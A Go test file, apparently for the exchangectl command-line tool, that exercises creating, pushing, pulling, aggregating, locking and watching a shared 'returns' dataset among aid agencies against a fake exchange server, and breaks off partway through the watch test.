package cli

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/encoding/protojson"
	"google.golang.org/protobuf/proto"

	"github.com/alltogether/exchange/client"
	exchangev1 "github.com/alltogether/exchange/proto/alltogether/exchange/v1"
	"github.com/alltogether/exchange/rowfile"
)

const (
	mCreateDataset = exchangev1.DatasetService_CreateDataset_FullMethodName
	mUpdateDataset = exchangev1.DatasetService_UpdateDataset_FullMethodName
	mWriteRows     = exchangev1.DatasetService_WriteDatasetRows_FullMethodName
	mPullRows      = exchangev1.DatasetService_PullDatasetRows_FullMethodName
	mWatchRows     = exchangev1.DatasetService_WatchDatasetRows_FullMethodName
)

// datasetFixture is a fake exchange where ilo owns the returns dataset of
// testdata/dataset.yaml, which iom, unicef, mosvy and afesip fill; dir is
// a working directory holding the testdata files.
func datasetFixture(t *testing.T) (f *fixture, dir string) {
	t.Helper()
	f = newFixture(t)
	for _, id := range []string{"ilo", "iom", "unicef", "mosvy", "afesip", "wvi"} {
		f.server.PutAgency(&exchangev1.Agency{Name: client.AgencyName(id), DisplayName: strings.ToUpper(id), Kind: exchangev1.AgencyKind_AGENCY_KIND_UN_AGENCY})
	}
	dir = t.TempDir()
	for _, name := range []string{"dataset.yaml", "rows.csv"} {
		data, err := os.ReadFile(filepath.Join("testdata", name))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return f, dir
}

// runAsIn runs exchangectl in-process as identity in the directory dir.
func (f *fixture) runAsIn(dir, identity string, args ...string) result {
	f.t.Helper()
	return f.runIn(newTestEnvIn(f.t, dir), append(f.agencyFlags(identity), args...)...)
}

// createReturns defines the returns dataset as ilo.
func createReturns(t *testing.T, f *fixture, dir string) {
	t.Helper()
	f.runAsIn(dir, "agency/ilo", "datasets", "create", "-f", "dataset.yaml").must(t)
}

// rowKey identifies a row by everything a CSV file keeps of it.
func rowKey(r *exchangev1.Row) string {
	var parts []string
	parts = append(parts, r.GetPeriod(), r.GetLocation())
	for _, k := range []string{"sex", "age_group"} {
		parts = append(parts, r.GetCategories()[k])
	}
	for _, k := range []string{"returned", "assisted", "referred", "main_service", "notes"} {
		v := r.GetValues()[k]
		if v == nil {
			parts = append(parts, "")
			continue
		}
		parts = append(parts, valueString(v))
	}
	if r.GetDeleted() {
		parts = append(parts, "deleted")
	}
	return strings.Join(parts, "|")
}

func rowKeys(rows []*exchangev1.Row) []string {
	var out []string
	for _, r := range rows {
		out = append(out, rowKey(r))
	}
	slices.Sort(out)
	return out
}

func TestRunDatasetsDefine(t *testing.T) {
	f, dir := datasetFixture(t)

	r := f.runAsIn(dir, "agency/ilo", "datasets", "create", "-f", "dataset.yaml", "--dry-run").must(t)
	if !strings.Contains(r.stdout, "agencies/ilo/datasets/returns") || !strings.Contains(r.stderr, "nothing was created (--dry-run)") || len(f.server.Datasets()) != 0 {
		t.Errorf("dry run:\n%s\n%s", r.stdout, r.stderr)
	}
	if req := f.server.Calls(mCreateDataset)[0].Request.(*exchangev1.CreateDatasetRequest); !req.GetValidateOnly() || req.GetDatasetId() != "returns" {
		t.Errorf("dry run request %v", req)
	}

	r = f.runAsIn(dir, "agency/ilo", "datasets", "create", "-f", "dataset.yaml").must(t)
	for _, want := range []string{
		"Name:", "agencies/ilo/datasets/returns", "Owner:", "agencies/ilo", "Period:", "month",
		"Location:", "province #adm1+code", "sex: female, male (required)",
		"returned integer 0..100000 (required) #affected+returned",
		"main_service code [shelter, counselling, medical, legal_aid, family_tracing, vocational_training] #service+main",
		"Public aggregates:", "yes, small values rounded to 0 or 5 outside the audience", "Audience:", "all members",
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("create output lacks %q:\n%s", want, r.stdout)
		}
	}
	req := f.server.Calls(mCreateDataset)[1].Request.(*exchangev1.CreateDatasetRequest)
	if len(req.GetRequestId()) != 32 || req.GetValidateOnly() || req.GetParent() != "agencies/ilo" {
		t.Errorf("create request %v", req)
	}
	equalProto(t, req.GetDataset(), testDataset(t))

	if r = f.runAsIn(dir, "agency/ilo", "datasets", "create", "-f", "dataset.yaml"); r.code != ExitConflict {
		t.Errorf("create again: exit %d, %s", r.code, r.stderr)
	}
	// From standard input, as JSON.
	e := newTestEnvIn(t, dir)
	e.Stdin = strings.NewReader(`{"id": "arrivals", "title": "Arrivals", "periodType": "quarter", "schema": {"locationLevel": "country", "measures": [{"key": "people", "type": "integer"}]}}`)
	f.runIn(e, append(f.agencyFlags("agency/ilo"), "datasets", "create", "-f", "-")...).must(t)

	// A typo in the file: exit 6 naming the field, and nothing sent.
	bad := strings.Replace(mustRead(t, dir, "dataset.yaml"), "      maxLength: 500", "      maxLenght: 500", 1)
	writeFile(t, dir, "typo.yaml", bad)
	calls := len(f.server.Calls(""))
	r = f.runAsIn(dir, "agency/ilo", "datasets", "create", "-f", "typo.yaml")
	if r.code != ExitInvalid || !strings.Contains(r.stderr, "typo.yaml, line 77: schema.measures[4].maxLenght: unknown field") || len(f.server.Calls("")) != calls {
		t.Errorf("typo: exit %d, stderr %q", r.code, r.stderr)
	}

	r = f.runAs("agency/ilo", "datasets", "list").must(t)
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[0], "DATASET ") || !strings.HasPrefix(lines[1], "ilo/arrivals ") ||
		strings.Join(strings.Fields(lines[2])[:5], " ") != "ilo/returns month province returned,assisted,referred,main_service,notes 0" {
		t.Errorf("list:\n%s", r.stdout)
	}
	r = f.runAs("agency/iom", "--json", "datasets", "get", "ilo/returns").must(t)
	var got exchangev1.Dataset
	if err := protojson.Unmarshal([]byte(r.stdout), &got); err != nil || got.GetName() != "agencies/ilo/datasets/returns" {
		t.Errorf("get --json (%v):\n%s", err, r.stdout)
	}
	if r = f.runAs("agency/iom", "datasets", "get", "ilo/nothing"); r.code != ExitNotFound {
		t.Errorf("get missing: exit %d", r.code)
	}

	// Update: the file's fields replace the definition, with the etag
	// just read.
	changed := strings.Replace(mustRead(t, dir, "dataset.yaml"), "  - agencies/afesip\n", "  - agencies/afesip\n  - agencies/wvi\n", 1)
	changed = strings.Replace(changed, "suppressionThreshold: 5\n", "", 1)
	writeFile(t, dir, "changed.yaml", changed)
	before := f.server.Datasets()[1]
	r = f.runAsIn(dir, "agency/ilo", "datasets", "update", "returns", "-f", "changed.yaml").must(t)
	update := f.server.Calls(mUpdateDataset)[0].Request.(*exchangev1.UpdateDatasetRequest)
	if update.GetDataset().GetEtag() != before.GetEtag() || update.GetDataset().GetName() != "agencies/ilo/datasets/returns" || len(update.GetUpdateMask().GetPaths()) != 0 {
		t.Errorf("update request %v", update)
	}
	after := f.server.Datasets()[1]
	if len(after.GetContributors()) != 5 || after.GetSuppressionThreshold() != 0 || !strings.Contains(r.stdout, "agencies/wvi") {
		t.Errorf("updated %v", after)
	}
	// The file names another dataset; a contributor may not update.
	if r = f.runAsIn(dir, "agency/ilo", "datasets", "update", "arrivals", "-f", "changed.yaml"); r.code != ExitInvalid || !strings.Contains(r.stderr, "the file defines agencies/ilo/datasets/returns, not agencies/ilo/datasets/arrivals") {
		t.Errorf("update another: exit %d, %q", r.code, r.stderr)
	}
	if r = f.runAsIn(dir, "agency/iom", "datasets", "update", "ilo/returns", "-f", "changed.yaml"); r.code != ExitDenied {
		t.Errorf("update by a contributor: exit %d, %q", r.code, r.stderr)
	}
	// A file with a stale etag (from 'get --json') is refused.
	stale, _ := protojson.Marshal(before)
	if err := os.WriteFile(filepath.Join(dir, "stale.json"), stale, 0o600); err != nil {
		t.Fatal(err)
	}
	if r = f.runAsIn(dir, "agency/ilo", "datasets", "update", "returns", "-f", "stale.json"); r.code != ExitConflict || !strings.Contains(r.stderr, "ETAG_MISMATCH") && !strings.Contains(r.stderr, "changed since it was read") {
		t.Errorf("stale etag: exit %d, %q", r.code, r.stderr)
	}

	// A file naming another agency's dataset is not created under the
	// caller's: exit 6, and nothing sent.
	writeFile(t, dir, "theirs.json", strings.Replace(string(stale), `"agencies/ilo/datasets/returns"`, `"agencies/iom/datasets/returns"`, 1))
	calls = len(f.server.Calls(""))
	if r = f.runAsIn(dir, "agency/ilo", "datasets", "create", "-f", "theirs.json"); r.code != ExitInvalid ||
		!strings.Contains(r.stderr, "the file defines agencies/iom/datasets/returns, but you can create datasets only under your own agency, agencies/ilo") ||
		len(f.server.Calls("")) != calls {
		t.Errorf("create another agency's: exit %d, %q", r.code, r.stderr)
	}
	// A bare id means the caller's own agency's dataset, so the
	// secretariat, which has none, must name the owner.
	if r = f.run("datasets", "get", "returns"); r.code != ExitUsage || !strings.Contains(r.stderr, "returns alone names a dataset of your own agency: name its owner, AGENCY/returns") {
		t.Errorf("secretariat with a bare id: exit %d, %q", r.code, r.stderr)
	}
}

// mustRead returns the contents of dir/name.
func mustRead(t *testing.T, dir, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, name))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func TestRunDatasetsPush(t *testing.T) {
	f, dir := datasetFixture(t)
	createReturns(t, f, dir)

	r := f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "rows.csv").must(t)
	if r.stdout != "" || r.stderr != "8 rows from rows.csv: 8 written, 0 rejected.\n" {
		t.Errorf("push rows.csv: stdout %q, stderr %q", r.stdout, r.stderr)
	}
	stored := f.server.DatasetRows("agencies/ilo/datasets/returns")
	if len(stored) != 8 || stored[0].GetContributor() != "agencies/iom" {
		t.Fatalf("stored %d rows: %v", len(stored), stored)
	}
	if got := rowKeys(stored); !slices.Contains(got, "2026-03|KH-1|male|25+|31|24|3|vocational_training|\"Group return from Sa Kaeo, 12 March\"") {
		t.Errorf("stored rows:\n%s", strings.Join(got, "\n"))
	}
	// Again: the same rows are replaced, nothing is added.
	f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "rows.csv").must(t)
	if n := len(f.server.DatasetRows("agencies/ilo/datasets/returns")); n != 8 {
		t.Errorf("%d rows after pushing again, want 8", n)
	}

	// Valid, malformed and rejected rows; a quoted cell over two lines, a
	// blank line and a line of separators, in batches of three.
	writeFile(t, dir, "mixed.csv",
		"Location,Period,Sex,Age_Group,Returned,Notes", // 1: any order, any case
		"KH-12,2026-04,female,18-24,3,",                // 2: written
		"KH-12,2026-04,female,12-17,three,",            // 3: not an integer
		"KH-12,2026-4,female,25+,2,",                   // 4: bad period
		"",                                             // 5: blank
		`KH-1,2026-04,male,12-17,5,"two`,               // 6-7: written
		`lines"`,
		"Phnom Penh,2026-04,other,18-24,-1,",      // 8: three problems
		",,,,,",                                   // 9: separators only
		"KH-1,2026-04,male,25+",                   // 10: returned missing
		"KH-1,2026-04,male,0-11,1,\"unterminated", // 11: malformed CSV
	)
	r = f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "mixed.csv", "--batch-size", "3")
	if r.code != ExitInvalid {
		t.Fatalf("exit %d, want %d\nstdout:\n%s\nstderr:\n%s", r.code, ExitInvalid, r.stdout, r.stderr)
	}
	want := []string{
		"LINE    FIELD                 CODE                 REASON",
		`3       returned              INVALID_ARGUMENT     "three" is not an integer`,
		`4       period                INVALID_ARGUMENT     "2026-4" is not a period of this dataset`,
		`8       sex                   INVALID_ARGUMENT     "other" is not an allowed value ([female male])`,
		`8       location              INVALID_ARGUMENT     "Phnom Penh" is not a location code`,
		`8       returned              INVALID_ARGUMENT     must be at least 0`,
		`10      returned              INVALID_ARGUMENT     required`,
		`11      -                     INVALID_ARGUMENT     malformed CSV at byte `,
	}
	got := strings.Split(strings.TrimSpace(r.stdout), "\n")
	if len(got) != len(want) {
		t.Fatalf("report:\n%s\nwant:\n%s", r.stdout, strings.Join(want, "\n"))
	}
	for i := range want {
		if !strings.HasPrefix(got[i], want[i]) {
			t.Errorf("report line %d:\n%s\nwant\n%s", i+1, got[i], want[i])
		}
	}
	if r.stderr != "7 rows from mixed.csv: 2 written, 5 rejected.\nexchangectl: 5 of 7 rows were rejected (see the results for each line)\n" {
		t.Errorf("stderr %q", r.stderr)
	}
	// Five rows sent (lines 2, 4, 6, 8, 10), three a call.
	if n := len(f.server.Calls(mWriteRows)); n != 2+2 {
		t.Errorf("%d calls, want 2 for mixed.csv", n-2)
	}
	// The multi-line cell reached the exchange whole.
	found := false
	for _, row := range f.server.DatasetRows("agencies/ilo/datasets/returns") {
		if row.GetValues()["notes"].GetTextValue() == "two\nlines" {
			found = true
		}
	}
	if !found {
		t.Error("the row of lines 6-7 was not stored")
	}

	// JSON lines, with --json output: fields are JSON paths.
	writeFile(t, dir, "rows.jsonl",
		`{"period":"2026-05","location":"KH-12","categories":{"sex":"female","age_group":"18-24"},"values":{"returned":{"intValue":"2"}}}`,
		`{"period":"2026-05","location":"KH-12","categories":{"sex":"female"},"values":{"returned":{"intValue":"2"}}}`,
		`{"period":"2026-05","colour":"red"}`,
	)
	r = f.runAsIn(dir, "agency/iom", "--json", "datasets", "push", "ilo/returns", "-f", "rows.jsonl")
	var problems []problem
	if err := json.Unmarshal([]byte(r.stdout), &problems); err != nil || r.code != ExitInvalid {
		t.Fatalf("exit %d, %v:\n%s", r.code, err, r.stdout)
	}
	if len(problems) != 2 || problems[0] != (problem{Line: 2, Field: "categories.age_group", Code: "INVALID_ARGUMENT", Reason: "required"}) ||
		problems[1].Line != 3 || !strings.Contains(problems[1].Reason, `unknown field "colour"`) {
		t.Errorf("problems %+v", problems)
	}

	// A tombstone deletes; a bad header stops before anything is sent.
	writeFile(t, dir, "delete.csv", "period,location,sex,age_group,deleted", "2026-05,KH-12,female,18-24,true")
	f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "delete.csv").must(t)
	for _, row := range f.server.DatasetRows("agencies/ilo/datasets/returns") {
		if row.GetPeriod() == "2026-05" && !row.GetDeleted() {
			t.Errorf("not deleted: %v", row)
		}
	}
	writeFile(t, dir, "header.csv", "period,location,sex,age_group,colour", "2026-05,KH-12,female,18-24,red")
	calls := len(f.server.Calls(mWriteRows))
	r = f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "header.csv")
	if r.code != ExitInvalid || !strings.Contains(r.stderr, "header.csv, line 1: colour: unknown column") || len(f.server.Calls(mWriteRows)) != calls {
		t.Errorf("bad header: exit %d, stderr %q", r.code, r.stderr)
	}

	// Who may push, and to what.
	if r = f.runAsIn(dir, "agency/wvi", "datasets", "push", "ilo/returns", "-f", "rows.csv"); r.code != ExitDenied {
		t.Errorf("non-contributor: exit %d, %q", r.code, r.stderr)
	}
	if r = f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/nothing", "-f", "rows.csv"); r.code != ExitNotFound {
		t.Errorf("missing dataset: exit %d, %q", r.code, r.stderr)
	}
	if r = f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "missing.csv"); r.code != ExitError || !strings.Contains(r.stderr, "missing.csv") {
		t.Errorf("missing file: exit %d, %q", r.code, r.stderr)
	}
}

func TestRunDatasetsPushProgressAndOutage(t *testing.T) {
	f, dir := datasetFixture(t)
	createReturns(t, f, dir)
	e := newTestEnvIn(t, dir)
	e.Stdin = strings.NewReader(mustRead(t, dir, "rows.csv"))
	e.IsTerminal = func(w io.Writer) bool { return w == e.Environment.Stderr }
	r := f.runIn(e, append(f.agencyFlags("agency/unicef"), "datasets", "push", "ilo/returns", "-f", "-", "--batch-size", "3")...).must(t)
	if !strings.Contains(r.stderr, "\rSent 3 rows through line 4: 3 written, 0 rejected...") ||
		!strings.HasSuffix(r.stderr, "\r\x1b[K8 rows from standard input: 8 written, 0 rejected.\n") {
		t.Errorf("progress on a terminal: %q", r.stderr)
	}

	// The exchange goes away after the first batch, for longer than the
	// retries last.
	down := status.Error(codes.Unavailable, "down")
	f.server.FailNext(mWriteRows, nil, down, down, down, down)
	r = f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "rows.csv", "--batch-size", "5")
	if r.code != ExitUnavailable || !strings.Contains(r.stderr, "5 rows from rows.csv before the error (5 written, 0 rejected); lines after 6 were not sent.") {
		t.Errorf("outage: exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "rows.csv", "--batch-size", "5").must(t)
	if n := len(f.server.DatasetRows("agencies/ilo/datasets/returns")); n != 16 {
		t.Errorf("%d rows, want 16 (8 from each agency)", n)
	}
}

// readBack reads a pulled file with rowfile.
func readBack(t *testing.T, path, format string, d *exchangev1.Dataset) []*exchangev1.Row {
	t.Helper()
	file, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	var r *rowfile.Reader
	if format == formatJSONL {
		r = rowfile.NewJSONLReader(file)
	} else if r, err = rowfile.NewCSVReader(file, d); err != nil {
		t.Fatal(err)
	}
	var rows []*exchangev1.Row
	for {
		row, err := r.Read()
		if errors.Is(err, io.EOF) {
			return rows
		}
		if err != nil {
			t.Fatal(err)
		}
		rows = append(rows, row)
	}
}

// pushedFixture is a dataset fixture where iom and unicef pushed
// rows.csv.
func pushedFixture(t *testing.T) (*fixture, string) {
	t.Helper()
	f, dir := datasetFixture(t)
	createReturns(t, f, dir)
	f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "rows.csv").must(t)
	f.runAsIn(dir, "agency/unicef", "datasets", "push", "ilo/returns", "-f", "rows.csv").must(t)
	return f, dir
}

func TestRunDatasetsPullFormatsRoundTrip(t *testing.T) {
	f, dir := pushedFixture(t)
	d := testDataset(t)
	stored := f.server.DatasetRows("agencies/ilo/datasets/returns")
	rev := f.server.Revision()
	for _, format := range []string{formatCSV, formatHXL, formatJSONL} {
		t.Run(format, func(t *testing.T) {
			out := "returns." + format
			r := f.runAsIn(dir, "agency/mosvy", "datasets", "pull", "agencies/ilo/datasets/returns", "--format", format, "--out", out).must(t)
			if want := fmt.Sprintf("Pulled 16 rows into %s at revision %d. Next time: --since %d\n", out, rev, rev); r.stderr != want || r.stdout != "" {
				t.Errorf("stdout %q, stderr %q, want %q", r.stdout, r.stderr, want)
			}
			noTemporaryFiles(t, dir)
			got := readBack(t, filepath.Join(dir, out), format, d)
			if format == formatJSONL {
				// Every field survives.
				if len(got) != len(stored) {
					t.Fatalf("%d rows read back, want %d", len(got), len(stored))
				}
				for i := range got {
					if !proto.Equal(got[i], stored[i]) {
						t.Errorf("row %d: %v, want %v", i, got[i], stored[i])
					}
				}
				return
			}
			if a, b := strings.Join(rowKeys(got), "\n"), strings.Join(rowKeys(stored), "\n"); a != b {
				t.Errorf("read back:\n%s\nwant:\n%s", a, b)
			}
			lines := strings.SplitN(mustRead(t, dir, out), "\n", 3)
			if lines[0] != "period,location,contributor,sex,age_group,returned,assisted,referred,main_service,notes" {
				t.Errorf("header %q", lines[0])
			}
			hxl := strings.HasPrefix(lines[1], "#date+period,#adm1+code,#org+code,#x_sex,#x_age_group,#affected+returned,#reached+assisted,#reached+referred,#service+main,#meta+notes")
			if hxl != (format == formatHXL) {
				t.Errorf("%s: second line %q", format, lines[1])
			}
		})
	}

	// To standard output: only data there, the revision on stderr.
	r := f.runAsIn(dir, "agency/mosvy", "datasets", "pull", "ilo/returns", "--format", "jsonl", "--location", "KH-20", "--category", "sex=male").must(t)
	if n := strings.Count(r.stdout, "\n"); n != 2 || strings.Contains(r.stdout, "revision ") || !strings.Contains(r.stderr, "--since") {
		t.Errorf("stdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
	}
	calls := f.server.Calls(mPullRows)
	req := calls[len(calls)-1].Request.(*exchangev1.PullDatasetRowsRequest)
	if strings.Join(req.GetLocations(), ",") != "KH-20" || req.GetCategories()["sex"] != "male" {
		t.Errorf("request %v", req)
	}
	// An agency outside the audience sees nothing.
	ds := f.server.Datasets()[0]
	ds.Audience = nil
	f.server.PutDataset(ds)
	if r = f.runAsIn(dir, "agency/wvi", "datasets", "pull", "ilo/returns", "--out", "x.csv"); r.code != ExitNotFound {
		t.Errorf("outside the audience: exit %d", r.code)
	}
	noTemporaryFiles(t, dir)
}

func TestRunDatasetsPullResumesAndLeavesNoHalfFile(t *testing.T) {
	f, dir := pushedFixture(t)
	stored := f.server.DatasetRows("agencies/ilo/datasets/returns")
	rev := f.server.Revision()

	// Three rows a message; the stream drops after two, then at once.
	f.server.SetRowBatch(3)
	f.server.BreakPull(2, 0)
	r := f.runAsIn(dir, "agency/mosvy", "datasets", "pull", "ilo/returns", "--format", "jsonl", "--out", "returns.jsonl").must(t)
	got := readBack(t, filepath.Join(dir, "returns.jsonl"), formatJSONL, nil)
	if len(got) != len(stored) {
		t.Errorf("%d rows, want %d", len(got), len(stored))
	}
	for i := range min(len(got), len(stored)) {
		if !proto.Equal(got[i], stored[i]) {
			t.Errorf("row %d: %v, want %v", i, got[i], stored[i])
		}
	}
	if strings.Count(r.stderr, "exchangectl: pull interrupted") != 2 || !strings.Contains(r.stderr, "resuming in") ||
		!strings.Contains(r.stderr, fmt.Sprintf("Pulled 16 rows into returns.jsonl at revision %d. Next time: --since %d\n", rev, rev)) {
		t.Errorf("stderr %q", r.stderr)
	}
	tokens := 0
	for _, c := range f.server.Calls(mPullRows) {
		if c.Request.(*exchangev1.PullDatasetRowsRequest).GetResumeToken() != "" {
			tokens++
		}
	}
	if tokens != 2 {
		t.Errorf("%d resumed pulls, want 2", tokens)
	}

	// The exchange stays away: the pull fails and the earlier file stays
	// as it was, with no temporary file beside it.
	before := mustRead(t, dir, "returns.jsonl")
	f.server.BreakPull(1, 0, 0, 0)
	r = f.runAsIn(dir, "agency/mosvy", "datasets", "pull", "ilo/returns", "--format", "jsonl", "--out", "returns.jsonl")
	if r.code != ExitUnavailable || !strings.Contains(r.stderr, "Nothing was written to returns.jsonl.") {
		t.Errorf("outage: exit %d, stderr %q", r.code, r.stderr)
	}
	if mustRead(t, dir, "returns.jsonl") != before {
		t.Error("the earlier file changed")
	}
	noTemporaryFiles(t, dir)

	// Interrupted: the same.
	ctx, cancel := context.WithCancel(context.Background())
	f.server.SetRowBatch(1)
	f.server.BreakPull(3)
	e := newTestEnvIn(t, dir)
	code := Run(ctx, append(f.agencyFlags("agency/mosvy"), "datasets", "pull", "ilo/returns", "--out", "fresh.csv"), func() Environment {
		env := e.Environment
		env.Stderr = writerFunc(func(p []byte) (int, error) {
			if strings.Contains(string(p), "pull interrupted") {
				cancel()
			}
			return len(p), nil
		})
		return env
	}())
	cancel()
	if code == ExitOK {
		t.Error("interrupted pull exited 0")
	}
	if _, err := os.Stat(filepath.Join(dir, "fresh.csv")); !os.IsNotExist(err) {
		t.Errorf("fresh.csv after an interrupted pull: %v", err)
	}
	noTemporaryFiles(t, dir)
}

// writerFunc is a function as an io.Writer.
type writerFunc func([]byte) (int, error)

func (w writerFunc) Write(p []byte) (int, error) { return w(p) }

func TestRunDatasetsPullSince(t *testing.T) {
	f, dir := pushedFixture(t)
	rev := f.server.Revision()
	writeFile(t, dir, "change.csv", "period,location,sex,age_group,returned,deleted",
		"2026-03,KH-12,female,25+,5,",
		"2026-03,KH-20,male,0-11,,true")
	f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "change.csv").must(t)
	next := f.server.Revision()

	r := f.runAsIn(dir, "agency/mosvy", "datasets", "pull", "ilo/returns", "--since", fmt.Sprint(rev), "--tombstones").must(t)
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	if len(lines) != 3 || !strings.HasSuffix(lines[0], ",deleted") ||
		lines[1] != "2026-03,KH-12,agencies/iom,female,25+,5,,,,,false" || lines[2] != "2026-03,KH-20,agencies/iom,male,0-11,,,,,,true" {
		t.Errorf("since %d with tombstones:\n%s", rev, r.stdout)
	}
	if !strings.Contains(r.stderr, fmt.Sprintf("Pulled 2 rows at revision %d. Next time: --since %d", next, next)) {
		t.Errorf("stderr %q", r.stderr)
	}
	r = f.runAsIn(dir, "agency/mosvy", "datasets", "pull", "ilo/returns", "--since", fmt.Sprint(rev)).must(t)
	if n := len(strings.Split(strings.TrimSpace(r.stdout), "\n")); n != 2 || !strings.Contains(r.stderr, "1 deleted row left out (--tombstones includes them).") {
		t.Errorf("since %d without tombstones:\n%s\n%s", rev, r.stdout, r.stderr)
	}
	r = f.runAsIn(dir, "agency/mosvy", "datasets", "pull", "ilo/returns", "--since", fmt.Sprint(next)).must(t)
	if n := len(strings.Split(strings.TrimSpace(r.stdout), "\n")); n != 1 || !strings.Contains(r.stderr, "Pulled 0 rows") {
		t.Errorf("nothing changed:\n%s\n%s", r.stdout, r.stderr)
	}
}

func TestRunDatasetsAggregatePeriods(t *testing.T) {
	f, dir := pushedFixture(t)

	r := f.runAs("agency/mosvy", "datasets", "aggregate", "ilo/returns", "--by", "location,sex", "--suppress-below", "20").must(t)
	want := []string{
		"LOCATION  SEX     ASSISTED  REFERRED  RETURNED  ROWS",
		"KH-1      female  64        20        72        4",
	}
	if got := strings.Split(strings.TrimSpace(r.stdout), "\n"); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("aggregate:\n%s\nwant:\n%s", r.stdout, strings.Join(want, "\n"))
	}
	// KH-1/male is hidden too: 10 referred.
	if r.stderr != "4 groups hidden: a total below 20.\n" {
		t.Errorf("stderr %q", r.stderr)
	}
	r = f.runAs("agency/mosvy", "--json", "datasets", "aggregate", "ilo/returns").must(t)
	var agg exchangev1.AggregateDatasetRowsResponse
	if err := protojson.Unmarshal([]byte(r.stdout), &agg); err != nil || len(agg.GetCells()) != 1 || agg.GetCells()[0].GetSums()["returned"] != 188 {
		t.Errorf("grand total (%v): %s", err, r.stdout)
	}

	r = f.runAs("agency/ilo", "datasets", "completeness", "returns", "2026-03").must(t)
	want = []string{
		"CONTRIBUTOR  ROWS  SUBMITTED         MISSING",
		"afesip       0     -                 KH-1,KH-12,KH-2,KH-20,KH-22,KH-24",
		"iom          8     KH-1,KH-12,KH-20  KH-2,KH-22,KH-24",
		"mosvy        0     -                 KH-1,KH-12,KH-2,KH-20,KH-22,KH-24",
		"unicef       8     KH-1,KH-12,KH-20  KH-2,KH-22,KH-24",
		"2 of 4 contributors have reported for 2026-03; the period is open.",
	}
	if got := strings.TrimSpace(r.stdout); got != strings.Join(want, "\n") {
		t.Errorf("completeness:\n%s\nwant:\n%s", got, strings.Join(want, "\n"))
	}

	if r = f.runAs("agency/iom", "datasets", "lock", "ilo/returns", "2026-03"); r.code != ExitDenied {
		t.Errorf("lock by a contributor: exit %d", r.code)
	}
	r = f.runAs("agency/ilo", "datasets", "lock", "returns", "2026-03").must(t)
	if r.stdout != "Locked 2026-03 of agencies/ilo/datasets/returns: contributors can no longer change its rows.\n" {
		t.Errorf("lock: %q", r.stdout)
	}
	if r = f.runAs("agency/ilo", "datasets", "lock", "returns", "2026-03"); r.code != ExitInvalid || !strings.Contains(r.stderr, "already locked") {
		t.Errorf("lock again: exit %d, %q", r.code, r.stderr)
	}
	r = f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "rows.csv")
	if r.code != ExitInvalid || strings.Count(r.stdout, "FAILED_PRECONDITION") != 8 || !strings.Contains(r.stdout, "2       period                FAILED_PRECONDITION  period 2026-03 is locked") {
		t.Errorf("push into a locked period: exit %d\n%s", r.code, r.stdout)
	}
	if r = f.runAs("agency/ilo", "datasets", "completeness", "returns", "2026-03").must(t); !strings.HasSuffix(r.stdout, "the period is locked.\n") {
		t.Errorf("completeness when locked:\n%s", r.stdout)
	}
	r = f.runAs("agency/ilo", "--json", "datasets", "unlock", "returns", "2026-03", "--reason", "IOM corrects KH-12").must(t)
	var d exchangev1.Dataset
	if err := protojson.Unmarshal([]byte(r.stdout), &d); err != nil || len(d.GetLocks()) != 0 || d.GetLockHistory()[1].GetReason() != "IOM corrects KH-12" {
		t.Errorf("unlock (%v): %s", err, r.stdout)
	}
	r = f.runAs("agency/ilo", "datasets", "get", "returns").must(t)
	if !strings.Contains(r.stdout, "unlocked 2026-03 by ilo: IOM corrects KH-12") {
		t.Errorf("lock history:\n%s", r.stdout)
	}
}

// startRun runs exchangectl as identity in the background until stopped.
func (f *fixture) startRun(t *testing.T, identity string, args ...string) *watchRun {
	t.Helper()
	w := &watchRun{stdout: &syncBuffer{}, stderr: &syncBuffer{}, done: make(chan int, 1)}
	e := newTestEnv(t)
	e.Stdout, e.Stderr = w.stdout, w.stderr
	ctx, cancel := context.WithCancel(context.Background())
	w.cancel = cancel
	t.Cleanup(cancel)
	flags := append(f.agencyFlags(identity), args...)
	go func() {
		w.done <- Run(ctx, flags, e.Environment)
	}()
	return w
}

func TestRunDatasetsWatch(t *testing.T) {
	f, dir := pushedFixture(t)
	from := f.server.Revision()
	writeFile(t, dir, "april.csv", "period,location,sex,age_group,returned,notes",
		"2026-04,KH-1,female,12-17,7,",
		"2026-04,KH-1,male,12-17,3,",
		"2026-04,KH-12,female,25+,2,\"by air\"")
	f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "april.csv").must(t)

	// Two rows a message; the first stream drops after one message, in
	// the middle of the revision: its rows may come again.
	f.server.SetRowBatch(2)
	f.server.SetWatchHeartbeat(time.Hour)
	f.server.BreakRowWatch(1)
	w := f.startRun(t, "agency/mosvy", "datasets", "watch", "ilo/returns", "--from", fmt.Sprint(from))
	w.waitLines(t, 3)
	writeFile(t, dir, "gone.csv", "period,location,sex,age_group,deleted", "2026-04,KH-1,male,12-17,true")
